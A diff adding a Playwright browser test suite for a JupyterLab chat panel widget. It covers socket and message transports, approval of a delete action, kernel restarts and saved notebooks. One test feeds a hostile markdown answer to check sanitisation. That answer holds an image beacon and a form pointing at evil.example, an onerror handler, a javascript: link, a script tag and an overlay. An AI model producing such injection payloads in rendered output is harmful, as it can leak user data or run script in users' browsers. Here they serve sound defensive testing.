@@ -1,0 +1,247 @@
+"""`ChatPanel` in a cell of a real JupyterLab: by its own socket, and by messages where there is none."""
+
+from __future__ import annotations
+
+import json
+import re
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Locator, Page, expect
+from provider import Provider, says
+
+from browser.conftest import MODELS
+from browser.page import Desk
+from browser.site import Notebook, Site
+
+PANEL = "from jupyter_mlchat import ChatPanel\npanel = ChatPanel(clf, height=420)\npanel"
+LLM = "openai/gpt-4.1-mini"
+HOSTILE = """\
+**bold** $x^2$
+
+![stolen](https://evil.example/?rows=1) <img src="https://evil.example/a.png" alt="tag" onerror="window.__hurt = 1">
+
+[run](javascript:window.__hurt=2) [docs](https://docs.example/)
+
+<form action="https://evil.example/"><input name="q"><button>Send</button></form>
+
+<div style="position:fixed">over</div> <script>window.__hurt = 3</script>
+
+$$
+\\int_0^1 x\\,dx
+$$
+"""
+
+
+class Panel:
+    """A view of a panel in a notebook's output."""
+
+    def __init__(self, page: Page, number: int = 0) -> None:
+        self.root: Locator = page.locator(".mlc-widget").nth(number)
+        self.message = self.root.get_by_label("Message", exact=True)
+        self.answers = self.root.locator("article.mlc-assistant")
+        self.kernel = self.root.locator(".mlc-kernel")
+
+    def speaks_by(self, way: str) -> Panel:
+        expect(self.root).to_have_attribute("data-transport", way)
+        expect(self.root.locator(".mlc-connection")).to_have_attribute("data-status", "open")
+        return self
+
+    def say(self, text: str) -> Locator:
+        answer = self.answers.nth(self.answers.count())
+        self.message.fill(text)
+        self.message.press("Enter")
+        answer.wait_for(state="attached")
+        return answer
+
+    def ask(self, text: str) -> Locator:
+        answer = self.say(text)
+        expect(answer).to_have_attribute("aria-busy", "false", timeout=30_000)
+        return answer
+
+
+@pytest.fixture
+def notebook(site: Site, provider: Provider, request: pytest.FixtureRequest) -> Iterator[Notebook]:
+    """A notebook whose cells show a panel, and whose kernel holds `X` and the fitted `clf`."""
+    provider.answers.clear()
+    made = site.notebook(re.sub(r"\W+", "-", request.node.name)[:60], PANEL, "panel")
+    made.start(MODELS)
+    yield made
+    made.close()
+
+
+def run_cell(page: Page, number: int) -> None:
+    """Run the cell of that number, counted from 0."""
+    page.evaluate(
+        """async number => {
+            const app = window.jupyterapp;
+            app.shell.currentWidget.content.activeCellIndex = number;
+            await app.shell.currentWidget.sessionContext.ready;
+            await app.commands.execute('notebook:run-cell');
+        }""",
+        number,
+    )
+
+
+@pytest.fixture
+def shown(page: Page, notebook: Notebook) -> Panel:
+    desk = Desk(page, notebook).load()
+    run_cell(desk.page, 0)
+    return Panel(page)
+
+
+@pytest.fixture
+def relayed(page: Page) -> Page:
+    """A page behind a proxy that lets requests through and no WebSocket of ours."""
+    page.route_web_socket(re.compile("/mlchat/ws"), lambda socket: socket.close())
+    return page
+
+
+@pytest.fixture(params=["socket", "messages"])
+def panel(request: pytest.FixtureRequest, page: Page, notebook: Notebook) -> Panel:
+    """A panel that speaks one way or the other."""
+    if request.param == "messages":
+        request.getfixturevalue("relayed")
+    Desk(page, notebook).load()
+    run_cell(page, 0)
+    return Panel(page).speaks_by(request.param)
+
+
+def test_it_answers_by_its_own_socket(shown: Panel) -> None:
+    shown.speaks_by("socket")
+    expect(shown.root.get_by_role("list", name="Models asked about")).to_contain_text("clf DecisionTreeClassifier")
+    expect(shown.ask("which models do I have?")).to_contain_text("clf")
+    expect(shown.root.get_by_role("button", name="Insert")).to_have_count(0)
+
+
+def test_a_form_an_approval_and_a_second_view(panel: Panel, page: Page, notebook: Notebook) -> None:
+    run_cell(page, 1)
+    second = Panel(page, 1)
+    answer = panel.ask("predict with clf: age = 65")
+    form = answer.get_by_role("form", name="Predict with clf")
+    form.get_by_label("income").fill("5.5")
+    form.get_by_role("button", name="Submit").click()
+    expect(answer).to_contain_text("predicts 1")
+    expect(second.answers).to_contain_text("predicts 1")
+    expect(second.answers.get_by_label("income")).to_be_disabled()
+    asked = second.ask("delete clf")
+    expect(panel.answers).to_have_count(2)
+    panel.answers.last.get_by_role("button", name="Allow once").click()
+    expect(asked.get_by_role("region", name="Approval: delete_model")).to_contain_text("Allowed")
+    expect(asked).to_have_attribute("aria-busy", "false")
+    assert notebook.run("print('clf' in globals())") == "False\n"
+
+
+def test_python_and_the_view_are_one_conversation(panel: Panel, notebook: Notebook) -> None:
+    panel.ask("which models do I have?")
+    assert notebook.run("print(panel.history[-1].question)") == "which models do I have?\n"
+    assert notebook.run("print(panel.ask('what does clf need?').status)") == "completed\n"
+    expect(panel.answers).to_have_count(2)
+    expect(panel.answers.last).to_contain_text("income")
+
+
+def test_a_cell_that_runs_again_has_one_view(panel: Panel, page: Page, notebook: Notebook) -> None:
+    panel.ask("which models do I have?")
+    run_cell(page, 0)
+    expect(page.locator(".mlc-widget")).to_have_count(1)
+    expect(panel.answers).to_have_count(1)
+    panel.ask("what does clf need?")
+    expect(panel.root.locator("article.mlc-user")).to_have_count(2)
+    relays = "import threading\nprint([t.name for t in threading.enumerate()].count('mlchat-panel'))"
+    views = {"socket": 0, "messages": 1}[panel.root.get_attribute("data-transport") or ""]
+    assert notebook.run(relays) == f"{views}\n"
+
+
+def test_stop_works_while_a_cell_runs(panel: Panel, notebook: Notebook) -> None:
+    answer = panel.ask("delete clf")
+    notebook.start("import time\nfor _ in range(600): time.sleep(0.1)")
+    expect(panel.kernel).to_have_attribute("data-state", "busy")
+    answer.get_by_role("button", name="Allow once").click()
+    expect(answer).to_contain_text("cell")
+    panel.root.get_by_role("button", name="Stop", exact=True).click()
+    expect(answer).to_contain_text("Stopped.")
+    expect(panel.ask("which models do I have?")).to_contain_text("clf")
+
+
+def test_a_busy_kernel_that_takes_no_messages_is_said(relayed: Page, notebook: Notebook) -> None:
+    Desk(relayed, notebook).load()
+    relayed.evaluate(
+        """async () => {
+            const { sessionContext } = window.jupyterapp.shell.currentWidget;
+            await sessionContext.ready;
+            sessionContext.session.kernel.commsOverSubshells = 'disabled';
+        }"""
+    )
+    run_cell(relayed, 0)
+    panel = Panel(relayed).speaks_by("messages")
+    panel.ask("which models do I have?")
+    notebook.start("import time\ntime.sleep(6)")
+    expect(panel.kernel).to_have_attribute("data-state", "busy")
+    panel.message.fill("what does clf need?")
+    panel.message.press("Enter")
+    expect(panel.kernel).to_contain_text("a cell is running")
+    expect(panel.answers.nth(1)).to_contain_text("income")
+    expect(panel.kernel).not_to_contain_text("a cell is running")
+
+
+def test_a_restarted_kernel_is_said_and_running_the_cell_again_goes_on(relayed: Page, notebook: Notebook) -> None:
+    Desk(relayed, notebook).load()
+    run_cell(relayed, 0)
+    panel = Panel(relayed).speaks_by("messages")
+    panel.ask("which models do I have?")
+    relayed.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
+    notebook.forget_client()
+    notebook.run(MODELS)
+    panel.message.fill("what does clf need?")
+    panel.message.press("Enter")
+    expect(panel.kernel).to_contain_text("restarted")
+    run_cell(relayed, 0)
+    again = Panel(relayed).speaks_by("messages")
+    expect(again.answers.first).to_contain_text("clf")
+    expect(again.ask("what does clf need?")).to_contain_text("income")
+
+
+def test_a_kernel_that_is_restarted_under_a_socket_is_asked_all_the_same(shown: Panel, notebook: Notebook) -> None:
+    shown.speaks_by("socket").ask("which models do I have?")
+    page = shown.root.page
+    page.evaluate("() => window.jupyterapp.shell.currentWidget.sessionContext.session.kernel.restart()")
+    notebook.forget_client()
+    notebook.run(MODELS)
+    expect(shown.ask("what does clf need?")).to_contain_text("income")
+
+
+def test_untrusted_markdown_loads_and_runs_nothing(
+    page: Page, notebook: Notebook, provider: Provider, outside: list[str]
+) -> None:
+    Desk(page, notebook).load()
+    page.evaluate(
+        "source => window.jupyterapp.shell.currentWidget.content.model.sharedModel.cells[0].setSource(source)",
+        PANEL.replace("height", f"llm={LLM!r}, height"),
+    )
+    provider.enqueue(says(*re.findall(r"\S+\s*", HOSTILE)))
+    run_cell(page, 0)
+    answer = Panel(page).speaks_by("socket").ask("tell me about clf")
+    text = answer.locator(".mlc-md")
+    expect(text.locator("strong")).to_have_text("bold")
+    expect(text.locator("math")).to_have_count(2)
+    expect(text.locator("img, form, input, button, script, style, [style], [onerror]")).to_have_count(0)
+    expect(text).to_contain_text("stolen")
+    expect(text.get_by_text("run", exact=True)).not_to_have_attribute("href", re.compile("."))
+    expect(text.get_by_role("link", name="docs")).to_have_attribute("rel", re.compile("noopener"))
+    assert page.evaluate("window.__hurt") is None
+    assert not outside
+
+
+def test_the_saved_notebook_has_a_twin_that_needs_no_kernel(shown: Panel, page: Page, notebook: Notebook) -> None:
+    shown.speaks_by("socket").ask("what does clf need?")
+    run_cell(page, 1)
+    Panel(page, 1).speaks_by("socket")
+    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
+    page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")
+    saved = json.loads((notebook.site.root / notebook.path).read_text())
+    [output] = saved["cells"][1]["outputs"]
+    assert "application/vnd.jupyter.widget-view+json" in output["data"]
+    for kind in ("text/markdown", "text/plain"):
+        text = "".join(output["data"][kind])
+        assert "what does clf need?" in text
+        assert "income" in text
